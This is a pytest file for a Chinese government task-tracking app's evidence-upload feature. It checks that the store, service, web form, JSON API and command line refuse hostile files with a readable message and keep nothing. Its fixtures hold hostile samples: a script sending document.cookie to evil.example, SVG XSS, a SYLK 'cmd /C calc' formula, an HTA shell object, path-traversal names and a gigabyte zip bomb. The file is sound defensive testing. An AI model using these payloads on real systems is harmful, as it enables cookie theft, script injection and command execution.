"""Hostile evidence, door by door: the store and the service, the web form, the JSON API, the command line.

Every refusal is a message a person can act on (what was wrong, what is accepted), a 4xx on the web and exit 1
on the command line, never a traceback or a 500; and it keeps nothing: no file in the evidence folder, no row
in the database. The kinds the office needs still pass, under names that are safe to save.
"""

from __future__ import annotations

import functools
import html
import io
import shutil
import struct
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest

from responsibilities.errors import InvalidInput
from responsibilities.reading import queries
from responsibilities.tracking import services
from responsibilities.tracking.evidence import (
    MAX_NAME_BYTES,
    MAX_UNPACKED_BYTES,
    MAX_ZIP_ENTRIES,
    EvidenceRejected,
    EvidenceStore,
)

from conftest import HRSS, ROOT, at, database_unchanged, run_duban
from web_support import api_csrf, make_app, page_csrf, sign_in

NOW = at(2019, 10, 25)

# ── the files ─────────────────────────────────────────────────────────────────────────────────────────────

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(40))
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(40)) + b"\xff\xd9"
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
HTML = b"<html><body><script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>\n"
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>\n")
PDF_WITH_SCRIPT = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"
MHT = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n"
URL_SHORTCUT = b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\nIconIndex=0\r\n"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
SLK = b'ID;P\r\nC;Y1;X1;K"=cmd|\' /C calc\'!A0"\r\nE\r\n'
IQY = b"WEB\r\n1\r\nhttps://evil.example/query?x=1\r\n"
HTA = b'<html><head><HTA:APPLICATION ID="x"></head><script>new ActiveXObject("WScript.Shell")</script></html>'


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX = zip_of({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>",
               "word/document.xml": b"<w:document/>"})
OFD = zip_of({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<ofd:Document/>"})
ZIP = zip_of({"照片/现场1.jpg": JPEG, "签到表.pdf": PDF})
PLAIN_ZIP_AS_DOCX = zip_of({"word/document.xml": b"<w:document/>", "notes.txt": b"not a Word document"})
MACRO_DOCX = zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                     "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
ZIP_WITH_PROGRAM = zip_of({"说明.txt": "见附件".encode(), "附件/run.exe": MZ})
EMPTY_ZIP = b"PK\x05\x06" + bytes(18)


@functools.cache
def xlsx() -> bytes:
    """A real workbook, as openpyxl writes it (once: its timestamp changes the bytes): an Office file must pass the
    archive bounds."""
    book = openpyxl.Workbook()
    for row in range(2000):
        book.active.append([row, "优化营商环境", "市发展改革委", 0])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@functools.cache
def gigabyte_of_zeros() -> bytes:
    """A real zip bomb: 1 GB of zeros deflated (written in chunks, about 4.5 MB, a second to build), once."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            block = bytes(1024 * 1024)
            for _ in range(1024):
                member.write(block)
    return buffer.getvalue()


def declaring(data: bytes, unpacked: int) -> bytes:
    """``data`` (a ZIP) with every entry declaring ``unpacked`` bytes, in its local header and in the central
    directory: a bomb as the central directory tells it, built in no time (nothing is inflated to check it)."""
    patched = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at_ = patched.find(signature)
        while at_ != -1:
            struct.pack_into("<I", patched, at_ + offset, unpacked)
            at_ = patched.find(signature, at_ + 4)
    return bytes(patched)


def encrypted(data: bytes) -> bytes:
    """``data`` (a ZIP) with every entry flagged as encrypted (ZipCrypto), as a password-protected archive is."""
    patched = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at_ = patched.find(signature)
        while at_ != -1:
            flags = struct.unpack_from("<H", patched, at_ + offset)[0]
            struct.pack_into("<H", patched, at_ + offset, flags | 0x1)
            at_ = patched.find(signature, at_ + 4)
    return bytes(patched)


def many_entries() -> bytes:
    return zip_of({f"scan-{n}.txt": b"" for n in range(MAX_ZIP_ENTRIES + 1)}, zipfile.ZIP_STORED)


# name, content, what the message must say: every case a person could send, on purpose or not.
HOSTILE = {
    "an html page": ("evil.html", lambda: HTML, ".html 文件是网页"),
    "an html page named in capitals": ("EVIL.HTML", lambda: HTML, ".html 文件是网页"),
    "an htm page": ("evil.htm", lambda: HTML, ".htm 文件是网页"),
    "an xhtml page": ("evil.xhtml", lambda: HTML, ".xhtml 文件是网页"),
    "an mht web archive": ("evil.mht", lambda: MHT, ".mht 文件是网页"),
    "an svg with a script": ("evil.svg", lambda: SVG, ".svg 文件是网页"),
    "a pdf header over a script named html": ("evil.html", lambda: PDF_WITH_SCRIPT, ".html 文件是网页"),
    "a double extension ending in html": ("report.pdf.html", lambda: HTML, ".html 文件是网页"),
    "an internet shortcut": ("x.url", lambda: URL_SHORTCUT, ".url 文件是快捷方式"),
    "a windows shortcut": ("x.lnk", lambda: LNK, ".lnk 文件是快捷方式"),
    "a sylk sheet": ("x.slk", lambda: SLK, ".slk 文件会被 Excel 打开并执行其中的公式"),
    "an excel web query": ("x.iqy", lambda: IQY, ".iqy 文件会被 Excel 打开"),
    "an html application": ("x.hta", lambda: HTA, ".hta 文件会作为程序运行"),
    "a macro workbook": ("预算.xlsm", lambda: DOCX, ".xlsm 文件含宏,即可以运行的代码"),
    "a right-to-left override hiding exe": ("报告\u202efdp.exe", lambda: PDF, ".exe 文件会作为程序运行"),
    "an unknown extension": ("setup.bin", lambda: PDF, "文件名须以 .pdf、"),
    "a program named pdf": ("报告.pdf", lambda: MZ, "不接收此类文件(可接收:PDF、Word"),
    "an html page named report pdf": ("report.pdf", lambda: HTML, "内容是网页、SVG 或 XML"),
    "an html page named txt": ("说明.txt", lambda: HTML, "内容是网页、SVG 或 XML"),
    "a doctype after a bom and blank lines": ("说明.txt", lambda: b"\xef\xbb\xbf \r\n\t<!DocType html><p>x",
                                              "内容是网页、SVG 或 XML"),
    "an svg named csv": ("台账.csv", lambda: b"<svg onload=alert(1)>", "内容是网页、SVG 或 XML"),
    "an xml svg named txt": ("说明.txt", lambda: SVG, "内容是网页、SVG 或 XML"),
    "a script tag after a line of text": ("说明.txt", lambda: "整改说明\n<script>alert(1)</script>".encode(),
                                          "内容是网页、SVG 或 XML"),
    "a sylk sheet named csv": ("台账.csv", lambda: SLK, "内容是 SYLK 表格"),
    "a shortcut named txt": ("链接.txt", lambda: URL_SHORTCUT, "内容是快捷方式"),
    "a web query named txt": ("查询.txt", lambda: IQY, "内容是 Excel 网页查询"),
    "a plain zip named docx": ("方案.docx", lambda: PLAIN_ZIP_AS_DOCX, "文件名是 .docx,内容却是ZIP 压缩包"),
    "a docx with macros": ("方案.docx", lambda: MACRO_DOCX, "含宏"),
    "a zip with a program inside": ("材料.zip", lambda: ZIP_WITH_PROGRAM, "附件/run.exe”会作为程序运行"),
    "a gigabyte of zeros zipped": ("材料.zip", gigabyte_of_zeros, "超过 256 MB 的上限(可能是“压缩炸弹”)"),
    "a zip declaring a gigabyte": ("材料.zip", lambda: declaring(ZIP, 600 * 1024 * 1024), "超过 256 MB 的上限"),
    "a workbook whose sheet unpacks a thousand times": (
        "台账.xlsx", lambda: zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                                    "xl/worksheets/sheet1.xml": bytes(64 * 1024 * 1024)}),
        "“xl/worksheets/sheet1.xml”解压后 64 MB,压缩比超过 100 倍"),
    "too many entries": ("扫描件.zip", many_entries, f"超过 {MAX_ZIP_ENTRIES} 个的上限"),
    "an encrypted zip": ("材料.zip", lambda: encrypted(ZIP), "文件设有密码"),
    "an encrypted docx": ("方案.docx", lambda: encrypted(DOCX), "文件设有密码"),
    "a truncated docx": ("方案.docx", lambda: DOCX[: len(DOCX) // 2], "无法打开(已损坏或不完整)"),
    "an empty zip": ("材料.zip", lambda: EMPTY_ZIP, "压缩包是空的"),
    "an empty file": ("空.pdf", lambda: b"", "文件是空的"),
}
# The command line runs as a process: a few of each family.
ON_THE_COMMAND_LINE = ["an html page", "an html page named report pdf", "an internet shortcut",
                       "a zip declaring a gigabyte", "an encrypted zip", "an empty file"]

GOOD = {
    "a pdf": ("整改报告.pdf", lambda: PDF, "application/pdf"),
    "a docx": ("方案.docx", lambda: DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "a real xlsx": ("台账.xlsx", xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "a png": ("现场.png", lambda: PNG, "image/png"),
    "a jpeg": ("现场.jpg", lambda: JPEG, "image/jpeg"),
    "utf-8 text": ("说明.txt", lambda: "已按期完成整改,详见附件。<略>\n".encode(), "text/plain"),
    "gb18030 text": ("说明.txt", lambda: "已按期完成整改，详见附件。\n".encode("gb18030"), "text/plain"),
    "a csv": ("台账.csv", lambda: "序号,任务,责任单位\n1,优化营商环境,市发展改革委\n".encode(), "text/csv"),
    "an ofd": ("公文.ofd", lambda: OFD, "application/ofd"),
    "a zip": ("材料.zip", lambda: ZIP, "application/zip"),
}


def files_in(folder: Path) -> list[Path]:
    """Everything under the evidence folder, temporary files included."""
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def is_safe_name(name: str) -> bool:
    return (0 < len(name.encode()) <= MAX_NAME_BYTES and not set(name) & set('/\\<>:"|?*')
            and all(unicodedata.category(c) not in ("Cc", "Cf") for c in name))


@pytest.fixture
def app(web_db, tmp_path):
    return make_app(web_db.url, tmp_path / "evidence", NOW)


@pytest.fixture
def evidence_dir(tmp_path) -> Path:
    return tmp_path / "evidence"


def web_submit(client, *files: tuple[str, bytes], note: str = "已办结"):
    token = page_csrf(client, "/deliverables/hrss-4")
    return client.post("/deliverables/hrss-4/submit", data={"note": note, "csrf_token": token},
                       files=[("evidence", (name, data, "application/octet-stream")) for name, data in files],
                       follow_redirects=False)


def api_submit(client, *files: tuple[str, bytes]):
    return client.post("/api/deliverables/hrss-4/submit", data={"note": "已办结"},
                       files=[("evidence", (name, data, "application/octet-stream")) for name, data in files],
                       headers={"x-csrf-token": api_csrf(client)})


# ── the store and the service ─────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("case", HOSTILE)
def test_the_store_refuses_hostile_evidence_with_a_message_and_keeps_nothing(case, tmp_path):
    name, content, says = HOSTILE[case]
    store = EvidenceStore(tmp_path / "evidence")
    with pytest.raises(EvidenceRejected) as refused:
        store.put_bytes(content(), filename=name)
    message = str(refused.value)
    assert says in message and "\n" not in message
    assert files_in(tmp_path / "evidence") == []


@pytest.mark.both_databases
@pytest.mark.parametrize("case", HOSTILE)
def test_the_service_refuses_hostile_evidence_as_invalid_input_and_nothing_is_stored(case, loaded, evidence_store,
                                                                                    evidence_dir, tmp_path):
    name, content, says = HOSTILE[case]
    source = tmp_path / "uploads" / name
    source.parent.mkdir()
    source.write_bytes(content())
    with database_unchanged(loaded), pytest.raises(InvalidInput) as refused:
        services.submit(loaded.session_factory, actor=HRSS, ref="hrss-4", now=NOW, note="已办结", files=[source],
                        evidence_store=evidence_store)
    assert says in str(refused.value)
    assert files_in(evidence_dir) == []


@pytest.mark.both_databases
def test_a_good_file_handed_in_with_a_refused_one_is_not_kept_either(loaded, evidence_store, evidence_dir, tmp_path):
    good, bad = tmp_path / "签到表.pdf", tmp_path / "evil.svg"
    good.write_bytes(PDF)
    bad.write_bytes(SVG)
    with database_unchanged(loaded), pytest.raises(InvalidInput, match=r"evil\.svg"):
        services.submit(loaded.session_factory, actor=HRSS, ref="hrss-4", now=NOW, files=[good, bad],
                        evidence_store=evidence_store)
    assert files_in(evidence_dir) == []


@pytest.mark.parametrize("case", GOOD)
def test_the_kinds_the_office_needs_are_kept_by_the_store(case, tmp_path):
    name, content, content_type = GOOD[case]
    data = content()
    stored = EvidenceStore(tmp_path / "evidence").put_bytes(data, filename=name)
    assert (stored.filename, stored.content_type) == (name, content_type)
    assert stored.path.read_bytes() == data


def test_a_bomb_is_judged_from_the_central_directory_without_unpacking_it(tmp_path, monkeypatch):
    """Reading a member would inflate it: the check never does."""
    def no_reading(*args, **kwargs):
        raise AssertionError("an archive member was read")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_reading)
    monkeypatch.setattr(zipfile.ZipFile, "read", no_reading)
    monkeypatch.setattr(zipfile.ZipFile, "extractall", no_reading)
    store = EvidenceStore(tmp_path / "evidence")
    with pytest.raises(EvidenceRejected, match="压缩炸弹"):
        store.put_bytes(gigabyte_of_zeros(), filename="材料.zip")
    assert store.put_bytes(ZIP, filename="材料.zip").content_type == "application/zip"


def test_an_archive_just_within_the_bounds_is_kept(tmp_path):
    store = EvidenceStore(tmp_path / "evidence")
    at_the_limit = zip_of({f"scan-{n}.txt": b"" for n in range(MAX_ZIP_ENTRIES - 1)} | {"a.pdf": PDF},
                          zipfile.ZIP_STORED)
    assert store.put_bytes(at_the_limit, filename="扫描件.zip").content_type == "application/zip"
    one = zip_of({"a.bin": b"x"}, zipfile.ZIP_STORED)
    declared = declaring(one, MAX_UNPACKED_BYTES)  # stored, so its ratio is its size: refused for that instead
    with pytest.raises(EvidenceRejected, match="压缩比超过 100 倍"):
        store.put_bytes(declared, filename="材料.zip")


@pytest.mark.parametrize(("given", "ends"), [
    ("报" * 300 + ".pdf", ".pdf"),
    ("报" * 84 + ".pdf", ".pdf"),
    ("../../etc/evil\x00.pdf", "evil.pdf"),
    ("C:\\Windows\\System32\\报告.pdf", "报告.pdf"),
    ("a/b/c\r\n报告\x1b[31m\x07.pdf", "报告[31m.pdf"),
    ("报告\u202etxt.pdf", "报告txt.pdf"),
    ("整改报告 2019.10.31", "整改报告 2019.10.31.pdf"),
])
def test_odd_names_are_kept_cut_to_200_bytes_without_control_characters_or_folders(tmp_path, given, ends):
    stored = EvidenceStore(tmp_path / "evidence").put_bytes(PDF, filename=given)
    assert stored.filename.endswith(ends) and is_safe_name(stored.filename), stored.filename
    assert stored.path.parent.parent == tmp_path / "evidence"


def test_a_name_cut_to_200_bytes_is_cut_between_characters_and_keeps_its_extension(tmp_path):
    stored = EvidenceStore(tmp_path / "evidence").put_bytes(PDF, filename="报告" * 150 + "（终稿）.pdf")
    assert stored.filename == "报告" * 32 + "报.pdf"
    assert len(stored.filename.encode()) == 199 <= MAX_NAME_BYTES


# ── the web form ──────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("case", HOSTILE)
def test_the_web_form_refuses_hostile_evidence_next_to_the_field_and_nothing_is_stored(case, app, web_db,
                                                                                     evidence_dir):
    name, content, says = HOSTILE[case]
    client = sign_in(app, HRSS)
    with database_unchanged(web_db):
        response = web_submit(client, (name, content()), note="我写的说明")
    assert response.status_code == 422
    assert 'id="submit-evidence-error"' in response.text and html.escape(says) in response.text
    assert "我写的说明" in response.text  # what was typed is kept
    assert files_in(evidence_dir) == []


def test_an_html_page_named_report_pdf_is_refused_and_nothing_is_stored(app, web_db, evidence_dir):
    client = sign_in(app, HRSS)
    with database_unchanged(web_db):
        response = web_submit(client, ("report.pdf", HTML))
    assert response.status_code == 422 and "report.pdf:内容是网页、SVG 或 XML" in response.text
    assert files_in(evidence_dir) == []


def test_a_good_file_uploaded_with_a_refused_one_is_not_kept_either(app, web_db, evidence_dir):
    client = sign_in(app, HRSS)
    with database_unchanged(web_db):
        response = web_submit(client, ("签到表.pdf", PDF), ("x.url", URL_SHORTCUT))
    assert response.status_code == 422 and "x.url" in response.text
    assert files_in(evidence_dir) == []


@pytest.mark.both_databases
def test_the_web_form_keeps_the_kinds_the_office_needs(app, web_db, evidence_dir):
    client = sign_in(app, HRSS)
    good = list(GOOD.values())
    for start in range(0, len(good), 3):  # three files a submission: hand in, then have it returned
        response = web_submit(client, *[(name, content()) for name, content, _ in good[start:start + 3]])
        assert response.status_code == 303, response.text
        services.return_for_rework(web_db.session_factory, actor="office", ref="hrss-4", now=NOW, reason="再交一次")
    kept = queries.show(web_db.session_factory, ref="hrss-4").evidence
    assert [(e.filename, e.content_type) for e in kept] == [(name, kind) for name, _, kind in good]
    assert len(files_in(evidence_dir)) == len({content() for _, content, _ in good})


@pytest.mark.parametrize("name", ["报" * 84 + ".pdf", "报" * 300 + ".pdf", "../../evil\x00.pdf",
                                  "a\\b/c\x1b报告\x07.pdf", "\u202e报告.pdf"])
def test_a_long_or_odd_name_is_uploaded_safely_never_a_500(app, web_db, name):
    """The probe's 500: an 84-character Chinese name was a temporary file's name, past 255 bytes."""
    response = web_submit(sign_in(app, HRSS), (name, PDF))
    assert response.status_code == 303, response.text
    [kept] = queries.show(web_db.session_factory, ref="hrss-4").evidence
    assert kept.filename.endswith(".pdf") and is_safe_name(kept.filename)


# ── the JSON API ──────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("case", HOSTILE)
def test_the_api_refuses_hostile_evidence_with_a_json_4xx_and_nothing_is_stored(case, app, web_db, evidence_dir):
    name, content, says = HOSTILE[case]
    client = sign_in(app, HRSS)
    with database_unchanged(web_db):
        response = api_submit(client, (name, content()))
    assert 400 <= response.status_code < 500, response.text
    error = response.json()["error"]
    assert says in f"{error['message']} {error.get('detail', '')}"
    assert files_in(evidence_dir) == []


@pytest.mark.both_databases
@pytest.mark.parametrize("case", ["a real xlsx", "gb18030 text", "an ofd"])
def test_the_api_keeps_the_kinds_the_office_needs(case, app, web_db):
    name, content, content_type = GOOD[case]
    response = api_submit(sign_in(app, HRSS), (name, content()))
    assert response.status_code == 200, response.text
    detail = sign_in(app, HRSS).get("/api/deliverables/hrss-4").json()
    assert [(e["filename"], e["content_type"]) for e in detail["evidence"]] == [(name, content_type)]


def test_a_300_character_chinese_name_through_the_api_is_kept_cut_to_200_bytes(app, web_db):
    response = api_submit(sign_in(app, HRSS), ("报" * 300 + ".pdf", PDF))
    assert response.status_code == 200, response.text
    [kept] = queries.show(web_db.session_factory, ref="hrss-4").evidence
    assert kept.filename == "报" * 65 + ".pdf"


# ── the command line ──────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def workdir(tmp_path, loaded) -> Path:
    """A working folder with the plan, on the loaded test database; evidence goes to its var/evidence."""
    shutil.copy(ROOT / "deadlines.yaml", tmp_path)
    return tmp_path


@pytest.mark.slow
@pytest.mark.both_databases
@pytest.mark.parametrize("case", ON_THE_COMMAND_LINE)
def test_the_command_line_refuses_hostile_evidence_in_one_line_with_exit_1_and_nothing_is_stored(case, workdir,
                                                                                                loaded):
    name, content, says = HOSTILE[case]
    (workdir / name).write_bytes(content())
    with database_unchanged(loaded):
        result = run_duban(workdir, "submit", "hrss-4", "--as", HRSS, "--evidence", name, database=loaded)
    assert result.returncode == 1
    assert result.stderr.startswith("duban: ") and says in result.stderr
    assert result.stderr.strip().count("\n") == 0
    assert files_in(workdir / "var" / "evidence") == []


@pytest.mark.slow
def test_the_command_line_keeps_a_file_with_the_longest_name_a_disk_allows_cut_to_200_bytes(workdir, loaded):
    name = "报" * 83 + ".pdf"  # 253 bytes: the file can exist, its display name is cut
    (workdir / name).write_bytes(PDF)
    result = run_duban(workdir, "submit", "hrss-4", "--as", HRSS, "--evidence", name, database=loaded)
    assert result.returncode == 0, result.stderr
    [kept] = queries.show(loaded.session_factory, ref="hrss-4").evidence
    assert kept.filename == "报" * 65 + ".pdf"
